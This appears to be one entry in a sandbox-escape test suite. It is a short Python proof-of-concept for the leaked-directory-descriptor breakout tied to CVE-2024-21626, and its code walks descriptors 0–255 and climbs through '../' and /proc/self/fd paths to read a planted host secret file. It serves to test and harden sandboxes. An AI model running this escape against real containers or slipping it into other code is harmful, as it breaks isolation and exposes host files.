# title: Go up from open descriptors
# tries: Takes every descriptor that is a folder, one of the root that it opens itself among them, and goes up from it to a planted file. A folder that was left open by whoever built the sandbox leads out.
# impact: HostLeak
# reference: CVE-2024-21626
# proof: secret
# host: run
# advice: Close all descriptors but those that code needs before it runs.


def attempt(host):
    import os

    try:
        os.open("/", os.O_PATH | os.O_DIRECTORY)
    except OSError:
        pass
    failure = None
    for number in range(256):
        for way in (lambda: os.open("../" * 40 + host["secret_file"][1:], os.O_RDONLY, dir_fd=number),
                    lambda: os.open(f"/proc/self/fd/{number}" + "/.." * 40 + host["secret_file"], os.O_RDONLY)):
            try:
                return os.read(way(), 1000).decode()
            except OSError as error:
                # What a folder says tells more than that the others are none.
                if not isinstance(error, NotADirectoryError) and error.errno != 9:
                    failure = failure or error
    raise failure or FileNotFoundError("no descriptor of a folder")
